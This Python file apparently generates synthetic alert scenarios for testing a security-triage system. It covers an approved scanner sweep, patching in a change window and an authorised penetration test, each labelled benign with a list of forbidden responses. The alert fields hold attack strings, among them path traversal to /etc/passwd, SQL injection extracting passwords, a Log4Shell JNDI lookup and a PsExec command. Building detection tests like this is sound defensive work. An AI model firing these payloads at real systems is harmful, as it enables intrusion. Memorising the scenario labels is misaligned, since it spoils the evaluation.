"""benign_lookalike stories of approved activity: the vulnerability scanner, patching in a change
window, an approved penetration test.
"""

from __future__ import annotations

from collections.abc import Sequence
from datetime import datetime

from devtools.builtin_suite.scenes import psexec_copy, psexesvc_shell
from devtools.builtin_suite.story import WEEKENDS, WORKDAYS, Story, clock, forbid_defaults, template
from devtools.northwind import OFFICE_STAFF, SIGNED, WEB_SERVERS, Person, asset, identity
from devtools.vendor_records.common import Proc, Record, winproc
from devtools.vendor_records.crowdstrike import crowdstrike_detection
from devtools.vendor_records.microsoft import defender_alert, dv_device, dv_user
from devtools.vendor_records.okta import okta_failed_login, okta_spray_threat
from devtools.vendor_records.suricata import suricata_alert
from devtools.vendor_records.wazuh import wazuh_alert, win_event
from tierzero.tools.inventory import (
    Asset,
    Scanner,
)

# ============================================================================================
# benign_lookalike
# ============================================================================================

NMAP_UA = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"


def web_attack(
    at: datetime,
    server: Asset,
    src: str,
    url: str,
    *,
    rule_id: str = "31104",
    level: int = 6,
    description: str = "Common web attack.",
    status: str = "404",
    ua: str = NMAP_UA,
    techniques: Sequence[str] = ("T1190",),
) -> Record:
    """Wazuh: a web attack pattern in a web server's access log."""
    return wazuh_alert(
        at,
        server,
        rule_id=rule_id,
        level=level,
        description=description,
        groups=["web", "accesslog", "attack"],
        techniques=techniques,
        data={"protocol": "GET", "srcip": src, "id": status, "url": url},
        full_log=f'{src} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "GET {url} HTTP/1.1" {status} 153 '
        f'"-" "{ua}"',
        location="/var/log/nginx/access.log",
        decoder={"name": "web-accesslog"},
    )


_SCAN_SIGNATURES = (
    (2010937, "ET SCAN Suspicious inbound to mySQL port 3306", 3306, 2),
    (2010935, "ET SCAN Suspicious inbound to MSSQL port 1433", 1433, 2),
    (2002910, "ET SCAN Potential VNC Scan 5900-5920", 5900, 2),
    (2001569, "ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection", 445, 2),
    (2010939, "ET SCAN Suspicious inbound to PostgreSQL port 5432", 5432, 2),
)


@template("benign_lookalike", 5)
def approved_scanner_sweep(s: Story, i: int) -> None:
    scanner = asset(("SCAN-01", "SCAN-02")[i % 2])
    src = scanner.ips[0]
    web = asset(s.pick(WEB_SERVERS))
    targets = [
        asset(h)
        for h in s.sample(
            ("SRV-APP-03", "SRV-APP-04", "SRV-FS-01", "SRV-FS-02", "SRV-DB-02", "SRV-JUMP-01"), 3
        )
    ]
    s.start(
        clock(s.pick(WORKDAYS), s.rng.randint(5, 6), s.rng.randint(0, 50))
        if i != 3
        else s.night_time()
    )
    s.title = f"Scheduled vulnerability scan from {scanner.hostname}"
    s.description = (
        f"The approved scanner {scanner.hostname} ({src}) runs its scheduled sweep of the "
        f"server network: Suricata sees scan signatures and {web.hostname}'s web logs show "
        "attack patterns, all from the scanner."
    )
    s.alert(
        "suricata-nmap-ua",
        s.at(0),
        suricata_alert,
        src=src,
        dst=web.ips[0],
        dport=80,
        sid=2009358,
        signature="ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)",
        category="Web Application Attack",
        priority=1,
        techniques=["T1595"],
        app_proto="http",
        signature_severity="Minor",
        extra={
            "http": {
                "hostname": web.ips[0],
                "url": f"/nmaplowercheck{s.hex(8)}",
                "http_user_agent": NMAP_UA,
                "http_method": "GET",
                "protocol": "HTTP/1.1",
                "status": 404,
                "length": 153,
            }
        },
    )
    for k, (target, (sid, signature, port, priority)) in enumerate(
        zip(targets, s.sample(_SCAN_SIGNATURES, 3), strict=True)
    ):
        when = s.at(1 + k)
        s.alert(
            f"suricata-scan-{target.hostname}",
            when,
            suricata_alert,
            src=src,
            dst=target.ips[0],
            dport=port,
            sid=sid,
            signature=signature,
            category="Potentially Bad Traffic",
            priority=priority,
            signature_severity="Informational",
        )
    urls = [
        "/cgi-bin/..%2F..%2F..%2F..%2Fetc/passwd",
        "/.git/config",
        "/catalog/item.php?id=1%20union%20select%20null,null,null--",
    ]
    for k, url in enumerate(urls[: 2 + i % 2]):
        when = s.at(4 + k)
        sql = "union" in url
        s.alert(
            f"wazuh-web-{k + 1}",
            when,
            web_attack,
            web,
            src,
            url,
            rule_id="31103" if sql else "31104",
            level=7 if sql else 6,
            description="SQL injection attempt." if sql else "Common web attack.",
        )
    s.case(
        "scheduled-scan", s.refs(), "benign_positive", evidence=["suricata-nmap-ua", "wazuh-web-1"]
    )
    forbid_defaults(s)
    s.forbid(("block_ip", src), ("isolate_host", scanner.hostname), ("isolate_host", web.hostname))


@template("benign_lookalike", 5)
def patching_in_window(s: Story, i: int) -> None:
    servers = [
        asset(h)
        for h in s.sample(
            ("SRV-APP-03", "SRV-APP-04", "SRV-FS-01", "SRV-FS-02", "SRV-PRINT-01", "SRV-JUMP-01"),
            1 + i % 3,
        )
    ]
    day = s.pick(WEEKENDS if i % 2 == 0 else WORKDAYS)
    start = clock(day, 22 if i % 2 == 0 else 20)
    change = f"CHG-{s.rng.randint(20000, 29999)}"
    product = s.pick(
        (
            ("AppServerAgent", "8.4.2"),
            ("NorthwindFleetService", "3.1.0"),
            ("PrintGateway", "2026.11"),
            ("BackupAgent", "12.2.1"),
        )
    )
    s.window(
        change,
        f"Monthly patching: {product[0]} {product[1]} and Windows updates",
        [a.hostname for a in servers],
        start,
        4,
    )
    s.start(start)
    s.title = f"Patching of {len(servers)} server(s) inside change window {change}"
    s.description = (
        f"Configuration Manager installs {product[0]} {product[1]} on "
        f"{', '.join(a.hostname for a in servers)} inside the approved window {change}; the "
        "installer creates and restarts services and the EDR and file-integrity monitoring "
        "report it."
    )
    ccm = Proc("C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe")
    msi = winproc(
        "msiexec.exe",
        f'msiexec.exe /i "C:\\Windows\\ccmcache\\{s.hex(2)}\\'
        f'{product[0]}-{product[1]}-x64.msi" /qn /norestart',
        ccm,
    )
    binary = f"C:\\Program Files\\Northwind\\{product[0]}\\agent.exe"
    for k, server in enumerate(servers):
        base = 15 + k * 40
        create = winproc(
            "sc.exe", f'sc.exe create {product[0]} binPath= "{binary}" start= auto', msi
        )
        s.alert(
            f"falcon-service-{server.hostname}",
            s.at(base),
            crowdstrike_detection,
            server,
            user="SYSTEM",
            name="Suspicious Activity",
            description="A process created or modified a Windows service. Adversaries may "
            "create services to persist on a host.",
            level=2,
            proc=create,
            techniques=["T1543.003"],
        )
        stop = winproc("net.exe", f"net.exe stop {product[0]} /y", msi)
        s.alert(
            f"falcon-stop-{server.hostname}",
            s.at(base + 5),
            crowdstrike_detection,
            server,
            user="SYSTEM",
            name="Suspicious Activity",
            description="A process stopped a service. Adversaries may stop services to disrupt "
            "a system or to disable security tools.",
            level=2,
            proc=stop,
            techniques=["T1489"],
        )
        when = s.at(base + 1)
        s.alert(
            f"wazuh-new-service-{server.hostname}",
            when,
            wazuh_alert,
            server,
            rule_id="61138",
            level=5,
            description="New Windows Service Created",
            groups=["windows", "windows_system"],
            techniques=["T1543.003"],
            data=win_event(
                when,
                server,
                provider="Service Control Manager",
                event_id="7045",
                channel="System",
                message="A service was installed in the system.",
                eventdata={
                    "serviceName": product[0],
                    "imagePath": f'"{binary}"',
                    "serviceType": "user mode service",
                    "startType": "auto start",
                    "accountName": "LocalSystem",
                },
            ),
        )
        if i >= 2:
            when = s.at(base - 2)
            path = binary.lower()
            s.alert(
                f"wazuh-file-added-{server.hostname}",
                when,
                wazuh_alert,
                server,
                rule_id="554",
                level=5,
                description="File added to the system.",
                groups=["ossec", "syscheck", "syscheck_entry_added", "syscheck_file"],
                full_log=f"File '{path}' added\nMode: realtime\n",
                location="syscheck",
                decoder={"name": "syscheck_new_entry"},
                syscheck={
                    "path": path,
                    "mode": "realtime",
                    "size_after": "4812288",
                    "sha256_after": s.sha256(),
                    "uname_after": "Administrators",
                    "event": "added",
                },
            )
    s.case(
        "planned-patching",
        s.refs(),
        "benign_positive",
        evidence=[
            f"falcon-service-{servers[0].hostname}",
            f"wazuh-new-service-{servers[0].hostname}",
        ],
    )
    forbid_defaults(s)
    s.forbid(
        *(("isolate_host", a.hostname) for a in servers),
        ("block_hash", SIGNED["sc.exe"]),
        ("block_hash", SIGNED["net.exe"]),
        ("block_hash", SIGNED["msiexec.exe"]),
    )


_PENTESTERS = ("Bluefin Security", "Redline Assurance", "Harbourlight Labs")


@template("benign_lookalike", 5)
def approved_pentest(s: Story, i: int) -> None:
    firm = _PENTESTERS[i % 3]
    sow = f"SOW-2026-{s.rng.randint(100, 199)}"
    hard = i >= 3
    s.difficulty = "hard" if hard else "standard"
    day = s.pick(WORKDAYS)
    s.start(clock(day, s.rng.randint(9, 15), s.rng.randint(0, 59)))
    if i == 4:
        src_host = Asset(
            hostname="PT-LAPTOP-01",
            ips=("10.20.250.10",),
            owner="secops",
            business_unit="Security",
            criticality="low",
            environment="test",
            role="pentest_workstation",
            os="Kali Linux 2026.3",
        )
        s.assets.append(src_host)
        src = src_host.ips[0]
        s.scanners.append(
            Scanner(
                name=f"Internal penetration test by {firm} ({sow})",
                ips=(src,),
                hostnames=(src_host.hostname,),
                approved_by=f"ciso ({sow})",
            )
        )
        tester = Person(
            "pt-tester",
            f"{firm} tester",
            "Security",
            "External penetration tester",
            "standard",
            ("DE",),
            None,
            None,
            password_changed="2026-11-01",
        )
        s.identities.append(identity(tester))
    else:
        src = s.ext_ip(("192.0.2",))
        s.scanners.append(
            Scanner(
                name=f"External penetration test by {firm} ({sow})",
                ips=(src,),
                approved_by=f"ciso ({sow})",
            )
        )
    s.title = f"Approved penetration test by {firm} ({sow})" + (
        ": password spray against Okta"
        if i == 3
        else ": internal lateral movement"
        if i == 4
        else ": web application attacks"
    )
    s.description = (
        f"{firm} tests Northwind under {sow}, approved by the CISO, from {src}, during the "
        f"agreed window on {day:%A %d %B}. "
        + (
            "The scope includes a password spray against Okta: it looks exactly like an attack, "
            "with high-severity ThreatInsight alerts."
            if i == 3
            else "The scope includes the test network: the tester relays credentials and runs "
            "PsExec against TEST-SRV-01 from the pentest laptop."
            if i == 4
            else "The testers throw SQL injection and Log4Shell payloads at the web servers."
        )
    )
    evidence: list[str] = []
    if i < 3:
        web = asset(WEB_SERVERS[i % 2])
        s.alert(
            "suricata-sqli",
            s.at(0),
            suricata_alert,
            src=src,
            dst=web.ips[0],
            dport=443,
            sid=2006446,
            signature="ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
            category="Web Application Attack",
            priority=1,
            techniques=["T1190"],
            app_proto="http",
            extra={
                "http": {
                    "hostname": "shop.northwind.example",
                    "url": "/catalog/item.php?id=1%20UNION%20SELECT%20username,password"
                    "%20FROM%20users--",
                    "http_method": "GET",
                    "status": 500,
                    "http_user_agent": "sqlmap/1.8.11#stable (https://sqlmap.org)",
                }
            },
        )
        s.alert(
            "suricata-log4j",
            s.at(7),
            suricata_alert,
            src=src,
            dst=web.ips[0],
            dport=443,
            sid=2034647,
            signature="ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
            category="Attempted Administrator Privilege Gain",
            priority=1,
            techniques=["T1190"],
            app_proto="http",
            extra={
                "http": {
                    "hostname": "shop.northwind.example",
                    "url": "/login",
                    "http_method": "POST",
                    "status": 401,
                    "http_user_agent": "${jndi:ldap://" + src + ":1389/a}",
                }
            },
        )
        s.alert(
            "wazuh-sqli",
            s.at(1),
            web_attack,
            web,
            src,
            "/catalog/item.php?id=1%20UNION%20SELECT%20username,password--",
            rule_id="31103",
            level=7,
            description="SQL injection attempt.",
            status="500",
            ua="sqlmap/1.8.11#stable (https://sqlmap.org)",
        )
        if i == 2:
            s.alert(
                "wazuh-web-success",
                s.at(12),
                web_attack,
                web,
                src,
                "/admin/../../etc/passwd",
                rule_id="31106",
                level=6,
                description="A web attack returned code 200 (success).",
                status="200",
                ua="Mozilla/5.0 (X11; Linux x86_64) Burp Suite Professional",
            )
        evidence = ["suricata-sqli", "suricata-log4j"]
        s.forbid(("isolate_host", web.hostname))
    elif i == 3:
        sprayed: list[Person] = s.sample(OFFICE_STAFF, 6)
        for k, person in enumerate(sprayed):
            when = s.at(k)
            s.alert(f"okta-failed-{person.user}", when, okta_failed_login, person, src, "DE")
        s.alert("okta-threat", s.at(7), okta_spray_threat, src, "DE")
        evidence = ["okta-threat"]
        s.forbid(
            *(("disable_user", p.user) for p in sprayed[:3]),
            *(("reset_password", p.user) for p in sprayed[:3]),
        )
    else:
        target = asset("TEST-SRV-01")
        src_host = s.assets[0]
        s.alert(
            "defender-recon",
            s.at(0),
            defender_alert,
            title="Network-scanning reconnaissance (SMB sessions enumeration)",
            level=3,
            description=f"{src_host.hostname} enumerated SMB sessions on the domain controller.",
            category="Discovery",
            techniques=["T1135"],
            source="microsoftDefenderForIdentity",
            evidence=[dv_device(src_host, roles=("source",)), dv_user("pt-tester")],
        )
        s.alert("suricata-psexec", s.at(20), psexec_copy, src_host, target)
        s.alert(
            "wazuh-psexec-shell",
            s.at(20.5),
            psexesvc_shell,
            target,
            "pt-tester",
            'cmd.exe /c "whoami /priv & hostname"',
        )
        evidence = ["suricata-psexec", "defender-recon"]
        s.forbid(
            ("isolate_host", src_host.hostname),
            ("disable_user", "pt-tester"),
            ("isolate_host", target.hostname),
        )
    s.case("penetration-test", s.refs(), "benign_positive", evidence=evidence)
    forbid_defaults(s)
    s.forbid(("block_ip", src))
